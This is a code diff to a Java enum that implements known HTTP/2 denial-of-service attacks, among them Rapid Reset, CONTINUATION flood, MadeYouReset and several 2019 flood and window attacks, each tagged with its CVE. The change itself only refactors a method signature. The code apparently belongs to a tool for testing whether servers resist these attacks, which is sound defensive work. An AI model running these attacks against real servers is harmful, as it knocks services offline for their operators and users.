@@ -25,7 +25,7 @@ public enum Attack {
     /** CVE-2023-44487: a stream opened and reset at once, again and again, so the server starts work it never finishes. */
     RAPID_RESET("rapid reset", "CVE-2023-44487", 20_000, "requests") {
         @Override
-        Outcome run(Target target) throws IOException, InterruptedException {
+        public Outcome against(Target target) throws IOException, InterruptedException {
             return new Run(target, this).onOneConnection((connection, step) -> {
                 connection.headers(stream(step), connection.get(target.largePath()), true);
                 connection.reset(stream(step));
@@ -35,7 +35,7 @@ public enum Attack {
     /** CVE-2024-27316: one header block that never ends, CONTINUATION after CONTINUATION (8 KB each: 64 MiB in all). */
     CONTINUATION_FLOOD("CONTINUATION flood", "CVE-2024-27316", 8_192, "frames") {
         @Override
-        Outcome run(Target target) throws IOException, InterruptedException {
+        public Outcome against(Target target) throws IOException, InterruptedException {
             Run run = new Run(target, this);
             return run.onOneConnection((connection, step) -> {
                 if (step == 1) {
@@ -51,7 +51,7 @@ public enum Attack {
      */
     MADE_YOU_RESET("MadeYouReset", "CVE-2025-8671", 20_000, "requests") {
         @Override
-        Outcome run(Target target) throws IOException, InterruptedException {
+        public Outcome against(Target target) throws IOException, InterruptedException {
             return new Run(target, this).onOneConnection((connection, step) -> {
                 connection.headers(stream(step), connection.get(target.largePath()), true);
                 connection.windowUpdate(stream(step), 0);
@@ -61,14 +61,14 @@ public enum Attack {
     /** CVE-2019-9512: PINGs from a client that reads nothing, so the server's ACKs pile up. */
     PING_FLOOD("ping flood", "CVE-2019-9512", 500_000, "frames") {
         @Override
-        Outcome run(Target target) throws IOException, InterruptedException {
+        public Outcome against(Target target) throws IOException, InterruptedException {
             return new Run(target, this).notReading((connection, frame) -> connection.ping(frame));
         }
     },
     /** CVE-2019-9514: requests the server must reset (a WINDOW_UPDATE of 0 on each), from a client that reads nothing. */
     RESET_FLOOD("reset flood", "CVE-2019-9514", 100_000, "requests") {
         @Override
-        Outcome run(Target target) throws IOException, InterruptedException {
+        public Outcome against(Target target) throws IOException, InterruptedException {
             return new Run(target, this).notReading((connection, step) -> {
                 connection.headers(stream(step), connection.get(target.smallPath()), true);
                 connection.windowUpdate(stream(step), 0);
@@ -78,14 +78,14 @@ public enum Attack {
     /** CVE-2019-9515: SETTINGS frames from a client that reads nothing, so the server's ACKs pile up. */
     SETTINGS_FLOOD("settings flood", "CVE-2019-9515", 500_000, "frames") {
         @Override
-        Outcome run(Target target) throws IOException, InterruptedException {
+        public Outcome against(Target target) throws IOException, InterruptedException {
             return new Run(target, this).notReading((connection, frame) -> connection.settings(new Http2Settings()));
         }
     },
     /** CVE-2019-9518: a request body sent as DATA frames of no bytes, each costing the server a frame's work and nothing else. */
     EMPTY_FRAMES("empty frames", "CVE-2019-9518", 500_000, "frames") {
         @Override
-        Outcome run(Target target) throws IOException, InterruptedException {
+        public Outcome against(Target target) throws IOException, InterruptedException {
             Run run = new Run(target, this);
             return run.onOneConnection((connection, step) -> {
                 if (step == 1) {
@@ -98,7 +98,7 @@ public enum Attack {
     /** CVE-2019-9517: large answers asked for on a window of 0, held open: the server buffers what it cannot send. */
     ZERO_WINDOW("zero window", "CVE-2019-9517", 400, "requests") {
         @Override
-        Outcome run(Target target) throws IOException, InterruptedException {
+        public Outcome against(Target target) throws IOException, InterruptedException {
             return new Run(target, this).heldOpen(4, new Http2Settings().initialWindowSize(0),
                     (connection, step) -> connection.headers(stream(step), connection.get(target.largePath()), true), (connection, streams) -> {
                     });
@@ -107,7 +107,7 @@ public enum Attack {
     /** CVE-2019-9511: large answers on a window of 1 byte, credited a byte at a time, so the server sends them in 1-byte frames. */
     DATA_DRIBBLE("data dribble", "CVE-2019-9511", 100, "requests") {
         @Override
-        Outcome run(Target target) throws IOException, InterruptedException {
+        public Outcome against(Target target) throws IOException, InterruptedException {
             return new Run(target, this).heldOpen(1, new Http2Settings().initialWindowSize(1),
                     (connection, step) -> connection.headers(stream(step), connection.get(target.largePath()), true), (connection, streams) -> {
                         for (int stream : streams) {
@@ -120,7 +120,7 @@ public enum Attack {
     /** CVE-2019-9513: streams whose priorities are shuffled without end, so the server rebuilds its priority tree. */
     RESOURCE_LOOP("resource loop", "CVE-2019-9513", 200_000, "frames") {
         @Override
-        Outcome run(Target target) throws IOException, InterruptedException {
+        public Outcome against(Target target) throws IOException, InterruptedException {
             Run run = new Run(target, this);
             int streams = 100;
             return run.onOneConnection((connection, step) -> {
@@ -140,14 +140,14 @@ public enum Attack {
      */
     CANCELLED_DOWNLOADS("cancelled downloads", "hop-2", 450, "requests") {
         @Override
-        Outcome run(Target target) throws IOException, InterruptedException {
+        public Outcome against(Target target) throws IOException, InterruptedException {
             return new Run(target, this).cancelledAtTheirHeaders();
         }
     },
     /** Issue hop-2's second probe: 4 connections of 2,000 POSTs each declaring a 64 KiB body and sending none of it. */
     BODILESS_POSTS("bodiless POSTs", "hop-2", 8_000, "requests") {
         @Override
-        Outcome run(Target target) throws IOException, InterruptedException {
+        public Outcome against(Target target) throws IOException, InterruptedException {
             return new Run(target, this).heldOpen(4, new Http2Settings(), (connection, step) -> connection.headers(stream(step),
                     connection.post(target.smallPath()).set("content-length", "65536"), false), (connection, streams) -> {
                     });
@@ -189,11 +189,7 @@ public enum Attack {
     }
 
     /** Runs the attack on the target and says what the server did. */
-    public Outcome against(Target target) throws IOException, InterruptedException {
-        return run(target);
-    }
-
-    abstract Outcome run(Target target) throws IOException, InterruptedException;
+    public abstract Outcome against(Target target) throws IOException, InterruptedException;
 
     /** As the report names it: "rapid reset". */
     public String label() {
